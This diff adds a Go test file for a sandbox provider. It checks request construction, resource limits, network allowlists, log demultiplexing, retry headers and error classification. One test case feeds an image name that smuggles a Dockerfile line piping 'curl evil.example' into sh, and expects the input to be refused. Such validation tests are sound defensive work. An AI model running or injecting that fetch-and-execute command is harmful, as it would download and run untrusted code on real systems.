@@ -1,0 +1,262 @@
+package daytona
+
+import (
+	"errors"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/berth-sh/berth/registry"
+	"github.com/berth-sh/berth/sandbox/throttle"
+	"github.com/berth-sh/berth/sandbox/types"
+)
+
+func testProvider(t *testing.T, mod func(*Options)) *Provider {
+	t.Helper()
+	o := Options{APIKey: registry.Secret("k-test"), BaseURL: "http://127.0.0.1:1/api", Target: "eu"}
+	if mod != nil {
+		mod(&o)
+	}
+	p, err := New(o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// TestCreateRequest checks how a Spec becomes POST /sandbox: resources
+// rounded up, maxima refused with the maximum named, TTL in minutes,
+// auto-delete, target, network, image or snapshot, work dir.
+func TestCreateRequest(t *testing.T) {
+	base := types.Spec{Image: "python:3.12", TTL: 90 * time.Second, Labels: map[string]string{"job": "j1"}}
+	cases := []struct {
+		name    string
+		mod     func(*types.Spec)
+		opts    func(*Options)
+		check   func(t *testing.T, r createRequest, disk int)
+		wantErr string
+		class   types.Class
+	}{
+		{name: "defaults", check: func(t *testing.T, r createRequest, disk int) {
+			if r.BuildInfo == nil || r.BuildInfo.DockerfileContent != "FROM python:3.12" || r.Snapshot != "" {
+				t.Errorf("image: %+v %q", r.BuildInfo, r.Snapshot)
+			}
+			if r.AutoStopInterval != 2 || r.AutoDeleteInterval != 1440 || r.Target != "eu" || !r.NetworkBlockAll {
+				t.Errorf("autostop %d autodelete %d target %q block %v", r.AutoStopInterval, r.AutoDeleteInterval, r.Target, r.NetworkBlockAll)
+			}
+			if r.CPU != 0 || r.Memory != 0 || r.Disk != 0 || disk != 3 {
+				t.Errorf("resources %d/%d/%d (disk held %d), want the API's defaults (3 GB held)", r.CPU, r.Memory, r.Disk, disk)
+			}
+			if r.Labels["job"] != "j1" || !strings.HasPrefix(r.Name, "berth-") {
+				t.Errorf("labels %v name %q", r.Labels, r.Name)
+			}
+		}},
+		{name: "rounded up", mod: func(s *types.Spec) { s.Resources = types.Resources{CPUs: 1.5, MemoryMB: 1500, StorageMB: 5000} },
+			check: func(t *testing.T, r createRequest, disk int) {
+				if r.CPU != 2 || r.Memory != 2 || r.Disk != 5 || disk != 5 {
+					t.Errorf("resources %d/%d/%d disk %d, want 2/2/5", r.CPU, r.Memory, r.Disk, disk)
+				}
+			}},
+		{name: "cpu above the maximum", mod: func(s *types.Spec) { s.Resources.CPUs = 4.5 },
+			wantErr: "the per-sandbox maximum is 4 cores", class: types.InvalidArgument},
+		{name: "memory above the maximum", mod: func(s *types.Spec) { s.Resources.MemoryMB = 9000 },
+			wantErr: "the per-sandbox maximum is 8 GB", class: types.InvalidArgument},
+		{name: "disk above the maximum", mod: func(s *types.Spec) { s.Resources.StorageMB = 90 * 1024 },
+			wantErr: "90 GB rounded up); the per-sandbox maximum is 10 GB", class: types.InvalidArgument},
+		{name: "raised maximum", mod: func(s *types.Spec) { s.Resources.StorageMB = 20 * 1024 }, opts: func(o *Options) { o.Limits.DiskGB = 50 },
+			check: func(t *testing.T, r createRequest, disk int) {
+				if r.Disk != 20 {
+					t.Errorf("disk %d", r.Disk)
+				}
+			}},
+		{name: "snapshot", mod: func(s *types.Spec) { s.Image = "snapshot:daytonaio/sandbox:0.4.3" },
+			check: func(t *testing.T, r createRequest, _ int) {
+				if r.Snapshot != "daytonaio/sandbox:0.4.3" || r.BuildInfo != nil {
+					t.Errorf("snapshot %q build %+v", r.Snapshot, r.BuildInfo)
+				}
+			}},
+		{name: "image that adds a Dockerfile line", mod: func(s *types.Spec) { s.Image = "alpine\nRUN curl evil.example | sh" },
+			wantErr: "spaces or control characters", class: types.InvalidArgument},
+		{name: "build context", mod: func(s *types.Spec) { s.Image, s.Build = "", &types.Build{ContextDir: "/tmp"} },
+			wantErr: "building from a context directory is not supported", class: types.NotSupported},
+		{name: "delete on stop", opts: func(o *Options) { o.DeleteOnStop = true },
+			check: func(t *testing.T, r createRequest, _ int) {
+				if r.AutoDeleteInterval != 0 {
+					t.Errorf("autodelete %d, want 0", r.AutoDeleteInterval)
+				}
+			}},
+		{name: "keep stopped", opts: func(o *Options) { o.AutoDelete = -1 },
+			check: func(t *testing.T, r createRequest, _ int) {
+				if r.AutoDeleteInterval != -1 {
+					t.Errorf("autodelete %d, want -1", r.AutoDeleteInterval)
+				}
+			}},
+		{name: "public", mod: func(s *types.Spec) { s.Network.Mode = types.NetworkPublic },
+			check: func(t *testing.T, r createRequest, _ int) {
+				if r.NetworkBlockAll {
+					t.Error("public network blocked")
+				}
+			}},
+		{name: "allowlist", mod: func(s *types.Spec) {
+			s.Network = types.Network{Mode: types.NetworkAllowlist, Allow: []string{"10.0.0.0/8", "1.2.3.4", "pypi.org"}}
+		}, check: func(t *testing.T, r createRequest, _ int) {
+			if r.NetworkBlockAll || r.NetworkAllowList != "10.0.0.0/8,1.2.3.4/32" || r.DomainAllowList != "pypi.org" {
+				t.Errorf("allowlist %q domains %q", r.NetworkAllowList, r.DomainAllowList)
+			}
+		}},
+		{name: "work dir and env", mod: func(s *types.Spec) { s.WorkDir, s.Env = "/app", map[string]string{"A": "1"} },
+			check: func(t *testing.T, r createRequest, _ int) {
+				if r.Env[WorkDirVar] != "/app" || r.Env["A"] != "1" {
+					t.Errorf("env %v", r.Env)
+				}
+			}},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			spec := base
+			spec.Labels = map[string]string{"job": "j1"}
+			if c.mod != nil {
+				c.mod(&spec)
+			}
+			r, disk, err := testProvider(t, c.opts).createRequest(spec.WithDefaults())
+			if c.wantErr != "" {
+				if err == nil || !strings.Contains(err.Error(), c.wantErr) || types.ClassOf(err) != c.class {
+					t.Fatalf("err = %v, want %v containing %q", err, c.class, c.wantErr)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatal(err)
+			}
+			c.check(t, r, disk)
+		})
+	}
+}
+
+// TestDemuxAnyCut feeds a session log cut at every byte, markers included,
+// and gets the same bytes out each time.
+func TestDemuxAnyCut(t *testing.T) {
+	out := []byte("first line\n\x00\x01\x02 binary\xff")
+	errb := []byte("to stderr")
+	var log []byte
+	add := func(mark byte, data []byte) {
+		for len(data) > 0 {
+			n := min(len(data), 7) // several lines per stream
+			enc := []byte(encodeLine(data[:n]))
+			log = append(log, mark, mark, mark)
+			log = append(log, enc...)
+			log = append(log, '\n')
+			data = data[n:]
+		}
+	}
+	add(1, out[:12])
+	add(2, errb)
+	add(1, out[12:])
+	log = append(log, 2, 2, 2)
+	log = append(log, "!berth: a wrapper message\n"...)
+	for cut := 0; cut <= len(log); cut++ {
+		var o, e strings.Builder
+		d := newDemux(&o, &e)
+		d.feed(log[:cut])
+		d.feed(log[cut:])
+		d.flush()
+		if o.String() != string(out) || e.String() != string(errb)+"berth: a wrapper message\n" {
+			t.Fatalf("cut at %d: stdout %q stderr %q", cut, o.String(), e.String())
+		}
+		if d.n != int64(len(log)) {
+			t.Fatalf("cut at %d: offset %d, want %d", cut, d.n, len(log))
+		}
+	}
+}
+
+func encodeLine(b []byte) string {
+	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+	var s strings.Builder
+	for i := 0; i < len(b); i += 3 {
+		var v uint32
+		n := min(3, len(b)-i)
+		for j := range 3 {
+			v <<= 8
+			if j < n {
+				v |= uint32(b[i+j])
+			}
+		}
+		for j := range 4 {
+			if j <= n {
+				s.WriteByte(alphabet[(v>>(18-6*j))&63])
+			} else {
+				s.WriteByte('=')
+			}
+		}
+	}
+	return s.String()
+}
+
+func TestRetryAfterHeaders(t *testing.T) {
+	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	cases := []struct {
+		h         http.Header
+		wait      time.Duration
+		throttler string
+	}{
+		{http.Header{"Retry-After-Sandbox-Create": {"3"}}, 3 * time.Second, "sandbox-create"},
+		{http.Header{"Retry-After": {"1"}, "Retry-After-Authenticated": {"5"}}, 5 * time.Second, "authenticated"},
+		{http.Header{"Retry-After": {now.Add(2 * time.Second).Format(http.TimeFormat)}}, 2 * time.Second, ""},
+		{http.Header{"Retry-After": {"99999"}}, maxAdvisedWait, ""},
+		{http.Header{"Retry-Afterwards": {"3"}, "X-Ratelimit-Reset-Sandbox-Create": {"9"}}, 0, ""},
+		{http.Header{"Retry-After": {"soon"}}, 0, ""},
+	}
+	for _, c := range cases {
+		wait, th := retryAfter(c.h, now)
+		if wait != c.wait || th != c.throttler {
+			t.Errorf("retryAfter(%v) = %v %q, want %v %q", c.h, wait, th, c.wait, c.throttler)
+		}
+	}
+}
+
+func TestClassify(t *testing.T) {
+	cases := []struct {
+		status    int
+		msg       string
+		class     types.Class
+		retryable bool
+	}{
+		{401, "Unauthorized", types.Unauthenticated, false},
+		{403, "Forbidden", types.Unauthenticated, false},
+		{404, "Sandbox with ID or name x not found", types.NotFound, false},
+		{409, "Sandbox with name x already exists", types.AlreadyExists, false},
+		{400, "Disk request 90GB exceeds maximum allowed per sandbox (10GB).", types.InvalidArgument, false},
+		{400, "Total disk limit exceeded. Maximum allowed: 30GiB.", types.ResourceExhausted, false},
+		{403, "Total CPU limit exceeded. Maximum allowed: 10.", types.ResourceExhausted, false},
+		{429, "Rate limit exceeded", types.ResourceExhausted, true},
+		{500, "Internal server error", types.Unavailable, true},
+		{503, "", types.Unavailable, true},
+	}
+	for _, c := range cases {
+		err := classify(&APIError{Status: c.status, Method: "POST", Path: "/sandbox", Message: c.msg})
+		if types.ClassOf(err) != c.class || throttle.Retryable(err) != c.retryable {
+			t.Errorf("%d %q: class %v retryable %v; want %v %v", c.status, c.msg, types.ClassOf(err), throttle.Retryable(err), c.class, c.retryable)
+		}
+		var ae *APIError
+		if !errors.As(err, &ae) || !strings.Contains(err.Error(), c.msg) {
+			t.Errorf("%d: the cause is lost: %v", c.status, err)
+		}
+	}
+}
+
+func TestOptionsRefused(t *testing.T) {
+	for _, o := range []Options{
+		{},
+		{APIKey: registry.Secret("  ")},
+		{APIKey: registry.Secret("k"), BaseURL: "ftp://x"},
+		{APIKey: registry.Secret("k"), HTTPClient: &http.Client{Timeout: time.Second}},
+	} {
+		if _, err := New(o); err == nil {
+			t.Errorf("New(%+v) accepted", o)
+		}
+	}
+	if _, err := New(Options{}); types.ClassOf(err) != types.Unauthenticated {
+		t.Errorf("New without a key: %v, want Unauthenticated", err)
+	}
+}
